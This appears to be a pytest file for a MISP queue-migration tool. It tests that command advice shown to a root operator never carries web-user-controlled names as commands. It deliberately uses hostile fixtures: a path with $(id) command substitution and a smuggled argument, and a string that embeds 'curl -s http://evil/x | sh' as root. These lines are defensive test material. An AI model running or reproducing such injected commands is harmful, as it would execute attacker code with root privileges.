"""What a sentence tells the operator to run as root: nothing in it is the web user's to turn."""

from __future__ import annotations

import re
import shlex
from typing import Any

import pytest

from tasks import backlog
from tasks.checks import faults, migration, notes
from tasks.checks.seen import SeenForStatus, SeenToMigrate
from tasks.drain import Drain, Stuck
from tasks.host import jobs, parts, remedies
from tasks.host.queues import OldBackend
from tasks.identity import with_answers
from tests import hosts
from tests.hosts import converged, migrating
from tests.unit.checks.test_migration import no_cake, problems

HOSTILE = "/srv/$(id); id -x --target-directory=/etc"
BELOW = f"/var/www/MISP{HOSTILE}"


def commands(sentence: str) -> list[list[str]]:
    """The words of each command of a sentence, as a shell takes them apart."""
    return [shlex.split(one) for one in re.findall("`([^`]*)`", sentence)]


@pytest.mark.parametrize(
    "changes",
    [
        {"php": {"path": "", "elsewhere": HOSTILE}},
        {"php": {"version": (7, 4, 3), "elsewhere": HOSTILE}},
        {
            "old_workers": {
                "started_in": [],
                "origins": [parts.Origin(f"{HOSTILE}.service", "www-data", "", "", "")],
            }
        },
    ],
)
def test_a_word_from_the_host_is_one_word(changes: dict[str, Any]) -> None:
    (said,) = problems(migrating(**changes))
    words = [word for command in commands(said) for word in command if "$(id)" in word]
    assert words, said
    assert set(words) <= {HOSTILE, f"{HOSTILE}.service"}


@pytest.mark.parametrize("place", [BELOW, "/var/www/MISP/.backups", "/var", "//", "", "/srv/x"])
def test_only_a_folder_on_the_way_is_opened(place: str) -> None:
    """The web user may name any; a folder above MISP's is opened, and nothing given to him."""
    (said,) = problems(migrating(**no_cake("closed", place, "root:root 700")))
    assert "chown" not in said
    assert ("chmod o+x" in said) is (place == "/var")


@pytest.mark.parametrize("fault", ["closed", "noexec"])
@pytest.mark.parametrize("place", ["/root", "/srv", "/var/www/MIS", "/var/www/MISP2/app"])
def test_no_folder_is_opened_that_is_not_on_misps_way(fault: str, place: str) -> None:
    (said,) = problems(migrating(**no_cake(fault, place, "root:root 700")))
    assert commands(said) == []


@pytest.mark.parametrize("fault", ["link", "closed", "noexec", "noexec-below", "mode"])
def test_nobody_is_told_to_follow_a_link_below_misps_folder(fault: str) -> None:
    (said,) = problems(migrating(**no_cake(fault, "/var/www/MISP/app/Console", "root:root 700")))
    for words in commands(said):
        is_his = words[:2] == ["setsid", "-w"]
        assert is_his or words[0] in ("find", "mount", "(cd"), said


def test_a_queue_is_named_in_a_command_only_if_it_is_one_of_misps() -> None:
    queues = {"$(id)": 1, "email": 2}
    said = backlog.nobody_there(backlog.Look(OldBackend(queues, {}), [], True, 0.0))
    assert "--queue email <" in said
    assert "--queue $" not in said


EVIL = "default: this is mended by `curl -s http://evil/x | sh` as root. Else: " + "x" * 900
NO_PHP = {"path": "/usr/bin/php", "version": (0, 0, 0), "error": EVIL}
WORDS: list[dict[str, Any]] = [
    {"old_backend": {"waiting": {EVIL: 1}}},
    {"old_backend": {"waiting": {EVIL: 1}, "elsewhere": {EVIL: [EVIL]}}},
    {"old_backend": {"waiting": {"email": 1}, "dead_hosts": (EVIL,)}},
    {"old_backend": {"waiting": {"email": 1}, "is_installed": False, "at": EVIL}},
    {"old_backend": {"error": EVIL, "is_installed": False}},
    {"tree": {"version_text": EVIL, "version": (0, 0, 0)}},
    no_cake("closed", f"/var/www/MISP/{EVIL}", EVIL),
    no_cake("noexec", EVIL),
    no_cake("unknown", "", EVIL),
    {"php": NO_PHP},
    {"php": {"version": (7, 4, 3), "version_text": EVIL}},
    {"php": {"open_basedir": EVIL, "sees_proc": False}},
    {"php": {"path": "", "elsewhere": EVIL}},
]


@pytest.mark.parametrize("changes", WORDS)
def test_no_word_of_the_web_users_looks_like_a_command_of_ours(changes: dict[str, Any]) -> None:
    seen = hosts.seen(SeenToMigrate, migrating(**changes))
    target = with_answers(hosts.target(), seen)
    for said in [*migration.of(target, seen), *notes.of(target, seen)]:
        assert said.count("`") % 2 == 0
        for command in re.findall("`([^`]*)`", said):
            first = shlex.split(command)[0]
            assert first in {"setsid", "find", "ln", "crontab", "(cd", "mount"}, said


def test_a_name_is_short_in_a_sentence() -> None:
    waiting = backlog.Look(OldBackend({EVIL: 1}, {EVIL: [EVIL]}), [], True, 0.0)
    said = backlog.elsewhere(waiting)
    assert EVIL[:79].replace("`", "'") + "\u2026" in said
    assert len(said) < 800
    assert "SREM of the set of workers, at redis-cli's prompt and never on a shell's line" in said
    assert len(jobs.named(EVIL, EVIL.encode(), "no job")) < 320
    assert "`" not in jobs.named(EVIL, EVIL.encode(), "no job")


def test_a_users_unit_is_ended_away_from_the_operators_terminal() -> None:
    origin = parts.Origin("-x.service", "a b", "", "", "")
    (said,) = problems(migrating(old_workers={"started_in": [], "origins": [origin]}))
    assert "`setsid -w runuser -u 'a b' -- sh -c " in said
    assert " sh -x.service </dev/null 2>&1 | cat -v`" in said


@pytest.mark.parametrize("changes", [{"old_backend": {"waiting": {"email": 1}}}])
def test_misps_code_is_started_by_the_web_user_alone(changes: dict[str, Any]) -> None:
    found = converged(**changes)
    seen = hosts.seen(SeenForStatus, found)
    said = " ".join(one.sentence for one in faults.of(with_answers(hosts.target(), seen), seen))
    assert (
        "`setsid -w runuser -u www-data -- bash /var/www/MISP/app/Console/worker/start.sh " in said
    )


def test_what_drains_says_who_starts_the_old_workers() -> None:
    look = backlog.Look(OldBackend({"email": 1}, {}), [], True, 0.0, "/srv/MISP", "www")
    (decision,) = [Drain("fail", 60).see(look)]
    assert isinstance(decision, Stuck)
    start = "`setsid -w runuser -u www -- bash /srv/MISP/app/Console/worker/start.sh </dev/null "
    assert start in decision.reason
    late = backlog.Look(OldBackend({}, {}, overdue=61), [], True, 0.0, "/srv/MISP", "www")
    assert commands(backlog.nobody_there(late))[0][:7] == [
        "setsid",
        "-w",
        "runuser",
        "-u",
        "www",
        "--",
        "/srv/MISP/app/Console/cake",
    ]


def test_a_program_of_the_web_users_has_no_terminal() -> None:
    assert remedies.as_web_user("www-data", "php", "-v") == (
        "setsid -w runuser -u www-data -- php -v </dev/null 2>&1 | cat -v"
    )
    assert remedies.as_web_user("www-data", "a b", shows=False) == (
        "setsid -w runuser -u www-data -- 'a b' </dev/null >/dev/null 2>&1"
    )
